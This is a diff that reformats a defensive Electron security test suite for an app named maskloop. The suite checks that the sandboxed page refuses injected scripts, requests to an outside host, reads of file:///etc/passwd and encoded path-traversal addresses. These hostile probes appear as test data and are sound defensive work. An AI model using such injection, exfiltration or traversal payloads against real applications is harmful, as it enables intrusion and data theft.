@@ -18,7 +18,10 @@ async function attempt({ page, outside }: AttackedApp, code: string): Promise<st
         // made while the debugger still allows it; run when it no longer does
         const run = new Function('OUT', `return (async () => { ${body} })()`) as (out: string) => Promise<unknown>;
         setTimeout(() => {
-          run(out!).then((value) => settle(`did: ${String(value)}`), (thrown: Error) => settle(`refused: ${thrown.name}`));
+          run(out!).then(
+            (value) => settle(`did: ${String(value)}`),
+            (thrown: Error) => settle(`refused: ${thrown.name}`),
+          );
         }, 0);
         setTimeout(() => settle('refused: nothing came'), 3000);
       }),
@@ -36,14 +39,29 @@ describe.skipIf(!hasElectron)('a page in the real Electron (needs npm run setup 
   const code: Attempt[] = [
     ['eval', `return eval('1+1')`],
     ['new Function', `return new Function('return 1')()`],
-    ['a string for setTimeout', `window.planted = 0; setTimeout('window.planted = 1', 0); await new Promise(r => setTimeout(r, 200)); if (!window.planted) throw new Error(); return 1`],
-    ['an inline script', `window.planted = 0; const s = document.createElement('script'); s.textContent = 'window.planted = 1'; document.body.append(s); if (!window.planted) throw new Error(); return 1`],
-    ['an inline event handler', `window.planted = 0; const d = document.createElement('div'); d.innerHTML = '<img src="data:," onerror="window.planted = 1">'; document.body.append(d); await new Promise(r => setTimeout(r, 300)); d.remove(); if (!window.planted) throw new Error(); return 1`],
+    [
+      'a string for setTimeout',
+      `window.planted = 0; setTimeout('window.planted = 1', 0); await new Promise(r => setTimeout(r, 200)); if (!window.planted) throw new Error(); return 1`,
+    ],
+    [
+      'an inline script',
+      `window.planted = 0; const s = document.createElement('script'); s.textContent = 'window.planted = 1'; document.body.append(s); if (!window.planted) throw new Error(); return 1`,
+    ],
+    [
+      'an inline event handler',
+      `window.planted = 0; const d = document.createElement('div'); d.innerHTML = '<img src="data:," onerror="window.planted = 1">'; document.body.append(d); await new Promise(r => setTimeout(r, 300)); d.remove(); if (!window.planted) throw new Error(); return 1`,
+    ],
     ['a script from data:', `return (await import('data:text/javascript,export default 1')).default`],
     ['a script from blob:', `return (await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))).default`],
-    ['a worker from blob:', `const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return await new Promise((yes, no) => { w.onmessage = yes; w.onerror = () => no(new Error()) })`],
+    [
+      'a worker from blob:',
+      `const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return await new Promise((yes, no) => { w.onmessage = yes; w.onerror = () => no(new Error()) })`,
+    ],
     ['WebAssembly', `return (await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))) && 'compiled'`],
-    ['a script from outside', `await new Promise((yes, no) => { const s = document.createElement('script'); s.src = 'http://' + OUT + '/x.js'; s.onload = yes; s.onerror = () => no(new Error()); document.head.append(s) })`],
+    [
+      'a script from outside',
+      `await new Promise((yes, no) => { const s = document.createElement('script'); s.src = 'http://' + OUT + '/x.js'; s.onload = yes; s.onerror = () => no(new Error()); document.head.append(s) })`,
+    ],
     ['a service worker', `await navigator.serviceWorker.register('/assets/sw.js'); return 1`],
   ];
   it.each(code)('runs no code that is not in the bundle: %s', async (_what, body) => {
@@ -53,15 +71,36 @@ describe.skipIf(!hasElectron)('a page in the real Electron (needs npm run setup 
   const network: Attempt[] = [
     ['fetch', `return (await fetch('http://' + OUT + '/')).status`],
     ['fetch without cors', `return (await fetch('http://' + OUT + '/', { mode: 'no-cors' })).type`],
-    ['an image', `await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error()); i.src = 'http://' + OUT + '/x.png' })`],
-    ['a style sheet', `await new Promise((yes, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://' + OUT + '/x.css'; l.onload = yes; l.onerror = () => no(new Error()); document.head.append(l) })`],
-    ['a prefetch', `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://' + OUT + '/p'; document.head.append(l); await new Promise(r => setTimeout(r, 300)); throw new Error()`],
+    [
+      'an image',
+      `await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error()); i.src = 'http://' + OUT + '/x.png' })`,
+    ],
+    [
+      'a style sheet',
+      `await new Promise((yes, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://' + OUT + '/x.css'; l.onload = yes; l.onerror = () => no(new Error()); document.head.append(l) })`,
+    ],
+    [
+      'a prefetch',
+      `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://' + OUT + '/p'; document.head.append(l); await new Promise(r => setTimeout(r, 300)); throw new Error()`,
+    ],
     ['a beacon', `navigator.sendBeacon('http://' + OUT + '/b', 'x'); await new Promise(r => setTimeout(r, 300)); throw new Error()`],
     ['a web socket', `await new Promise((yes, no) => { const w = new WebSocket('ws://' + OUT + '/'); w.onopen = yes; w.onerror = () => no(new Error()) })`],
-    ['an event source', `await new Promise((yes, no) => { const e = new EventSource('http://' + OUT + '/'); e.onopen = yes; e.onerror = () => { e.close(); no(new Error()) } })`],
-    ['WebRTC over UDP and TCP', `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + OUT }, { urls: 'turn:' + OUT + '?transport=tcp', username: 'u', credential: 'c' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise(r => setTimeout(r, 1500)); c.close(); throw new Error()`],
-    ['a form', `const f = document.createElement('form'); f.action = 'http://' + OUT + '/f'; f.method = 'post'; document.body.append(f); f.submit(); await new Promise(r => setTimeout(r, 300)); throw new Error()`],
-    ['a frame', `const f = document.createElement('iframe'); f.src = 'http://' + OUT + '/i'; document.body.append(f); await new Promise(r => setTimeout(r, 300)); f.remove(); throw new Error()`],
+    [
+      'an event source',
+      `await new Promise((yes, no) => { const e = new EventSource('http://' + OUT + '/'); e.onopen = yes; e.onerror = () => { e.close(); no(new Error()) } })`,
+    ],
+    [
+      'WebRTC over UDP and TCP',
+      `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + OUT }, { urls: 'turn:' + OUT + '?transport=tcp', username: 'u', credential: 'c' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise(r => setTimeout(r, 1500)); c.close(); throw new Error()`,
+    ],
+    [
+      'a form',
+      `const f = document.createElement('form'); f.action = 'http://' + OUT + '/f'; f.method = 'post'; document.body.append(f); f.submit(); await new Promise(r => setTimeout(r, 300)); throw new Error()`,
+    ],
+    [
+      'a frame',
+      `const f = document.createElement('iframe'); f.src = 'http://' + OUT + '/i'; document.body.append(f); await new Promise(r => setTimeout(r, 300)); f.remove(); throw new Error()`,
+    ],
     ['a file of this machine', `return (await fetch('file:///etc/hostname')).status`],
     ['a page of the browser', `return (await fetch('chrome://version')).status`],
   ];
@@ -74,12 +113,18 @@ describe.skipIf(!hasElectron)('a page in the real Electron (needs npm run setup 
     ['a web page', `location.href = 'http://' + OUT + '/'`],
     ['a file', `location.href = 'file:///etc/passwd'`],
     ['a data: page', `location.href = 'data:text/html,<h1>here</h1>'`],
-    ['a script as an address', `window.planted = 0; location.href = 'javascript:window.planted=1'; await new Promise(r => setTimeout(r, 200)); if (window.planted) return 1`],
+    [
+      'a script as an address',
+      `window.planted = 0; location.href = 'javascript:window.planted=1'; await new Promise(r => setTimeout(r, 200)); if (window.planted) return 1`,
+    ],
     ['another host of our scheme', `location.href = 'app://elsewhere/'`],
     ['a refresh', `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://' + OUT + '/'; document.head.append(m)`],
     ['a new window', `if (window.open('http://' + OUT + '/') !== null) return 1`],
     ['a new window of our own', `if (window.open('app://maskloop/') !== null) return 1`],
-    ['a link into a new window', `const a = document.createElement('a'); a.href = 'http://' + OUT + '/'; a.target = '_blank'; document.body.append(a); a.click()`],
+    [
+      'a link into a new window',
+      `const a = document.createElement('a'); a.href = 'http://' + OUT + '/'; a.target = '_blank'; document.body.append(a); a.click()`,
+    ],
     ['a webview', `const w = document.createElement('webview'); w.src = 'http://' + OUT + '/'; document.body.append(w); w.remove()`],
   ];
   it.each(places)('goes nowhere else: %s', async (_what, body) => {
@@ -115,8 +160,19 @@ describe.skipIf(!hasElectron)('a page in the real Electron (needs npm run setup 
   );
 
   it.each([
-    '/..%2f..%2fpackage.json', '/%2e%2e/%2e%2e/package.json', '/assets/..%5c..%5cpackage.json', '/%252e%252e/package.json', '/%00', '/%E0%A4%A', '//etc/passwd',
-    '/volume/..%2f..%2fmaskloop.db/0', '/labels/%2e%2e/1', '/volume/nobody/0', '/maskloop.db', 'app://elsewhere/', 'app://maskloop.evil/',
+    '/..%2f..%2fpackage.json',
+    '/%2e%2e/%2e%2e/package.json',
+    '/assets/..%5c..%5cpackage.json',
+    '/%252e%252e/package.json',
+    '/%00',
+    '/%E0%A4%A',
+    '//etc/passwd',
+    '/volume/..%2f..%2fmaskloop.db/0',
+    '/labels/%2e%2e/1',
+    '/volume/nobody/0',
+    '/maskloop.db',
+    'app://elsewhere/',
+    'app://maskloop.evil/',
   ])('app:// serves nothing at %s', async (address) => {
     const answer = await attempt(attacked, `const r = await fetch('${address}'); return r.status + ' ' + (await r.text()).includes('maskloop"')`);
     expect(answer).toMatch(/^(did: 4\d\d false|refused)/);
@@ -142,7 +198,9 @@ describe.skipIf(!hasElectron)('a page in the real Electron (needs npm run setup 
   });
 
   it('has no Node, and its bridge is three functions and an id that it cannot replace', async () => {
-    expect(await attempt(attacked, `return ['require', 'process', 'module', 'Buffer', 'global', '__dirname'].filter((name) => name in globalThis).join()`)).toBe('did: ');
+    expect(
+      await attempt(attacked, `return ['require', 'process', 'module', 'Buffer', 'global', '__dirname'].filter((name) => name in globalThis).join()`),
+    ).toBe('did: ');
     expect(await attempt(attacked, `return Object.keys(maskloop).join()`)).toBe('did: windowId,call,onEvent,droppedPath');
     expect(await attempt(attacked, `'use strict'; maskloop.call = () => 'mine'; return maskloop.call`)).toMatch(/^refused/);
   });
@@ -153,8 +211,14 @@ describe.skipIf(!hasElectron)('a page in the real Electron (needs npm run setup 
       return (webContents as unknown as { getLastWebPreferences(): Record<string, unknown> }).getLastWebPreferences();
     });
     expect(preferences).toMatchObject({
-      sandbox: true, contextIsolation: true, nodeIntegration: false, nodeIntegrationInSubFrames: false,
-      webSecurity: true, allowRunningInsecureContent: false, experimentalFeatures: false, webviewTag: false,
+      sandbox: true,
+      contextIsolation: true,
+      nodeIntegration: false,
+      nodeIntegrationInSubFrames: false,
+      webSecurity: true,
+      allowRunningInsecureContent: false,
+      experimentalFeatures: false,
+      webviewTag: false,
     });
   });
 
@@ -177,7 +241,9 @@ describe.skipIf(!hasElectron)('a page in the real Electron (needs npm run setup 
     const heard = await attacked.app.evaluate(async ({ BrowserWindow }, script) => {
       const stranger = new BrowserWindow({ show: false, webPreferences: { preload: script, sandbox: true } });
       await stranger.loadURL('data:text/html,<p>hello');
-      const answer = (await stranger.webContents.executeJavaScript(`maskloop.call('project.current', {}).then((a) => JSON.stringify(a), (e) => e.message)`)) as string;
+      const answer = (await stranger.webContents.executeJavaScript(
+        `maskloop.call('project.current', {}).then((a) => JSON.stringify(a), (e) => e.message)`,
+      )) as string;
       stranger.destroy();
       return answer;
     }, preload);
@@ -186,7 +252,12 @@ describe.skipIf(!hasElectron)('a page in the real Electron (needs npm run setup 
 
   it('saves no file but one that the page made and the user places', async () => {
     expect(await attacked.app.evaluate(({ session }) => session.defaultSession.listenerCount('will-download'))).toBe(1);
-    expect(await attempt(attacked, `const a = document.createElement('a'); a.href = '/volume/phantom_001/0'; a.download = 'x'; document.body.append(a); a.click(); await new Promise(r => setTimeout(r, 500)); throw new Error()`)).toMatch(/^refused/);
+    expect(
+      await attempt(
+        attacked,
+        `const a = document.createElement('a'); a.href = '/volume/phantom_001/0'; a.download = 'x'; document.body.append(a); a.click(); await new Promise(r => setTimeout(r, 500)); throw new Error()`,
+      ),
+    ).toMatch(/^refused/);
   });
 
   it('and works as before', async () => {
